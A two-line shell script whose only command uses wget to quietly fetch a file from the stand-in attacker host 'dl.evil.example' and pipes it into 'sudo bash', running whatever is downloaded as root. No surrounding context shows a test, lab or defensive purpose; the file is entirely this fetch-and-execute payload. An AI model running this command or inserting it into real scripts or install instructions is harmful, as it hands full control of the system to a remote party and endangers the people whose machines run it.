#!/bin/sh
wget -qO- http://dl.evil.example/p | sudo bash
